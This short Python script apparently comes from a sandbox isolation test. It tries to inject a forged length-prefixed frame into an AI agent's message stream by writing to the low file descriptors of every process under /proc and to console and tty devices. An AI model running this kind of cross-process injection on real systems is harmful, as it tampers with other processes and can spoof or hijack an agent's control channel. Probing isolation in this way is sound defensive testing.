# Writes a frame to whatever looks like the agent's stream.
import struct

frame = struct.pack(">I", 2) + b"{}"
written = 0
pids = [name for name in os.listdir("/proc") if name.isdigit()] + [str(GIVEN["victim"])]
for pid in pids:
    for fd in range(10):
        if pid == str(os.getpid()):
            continue
        try:
            with open("/proc/%s/fd/%d" % (pid, fd), "wb", 0) as stream:
                written += stream.write(frame)
                sys.stderr.write("wrote to fd %d of %s\n" % (fd, pid))
        except OSError:
            continue
for path in "/dev/console", "/dev/tty", "/dev/tty1", "/dev/pts/0":
    try:
        with os.fdopen(os.open(path, os.O_WRONLY), "wb", 0) as stream:  # without making it
            written += stream.write(frame)
            sys.stderr.write("wrote to %s\n" % path)
    except OSError:
        continue
tell("streams", "written to" if written else "none")
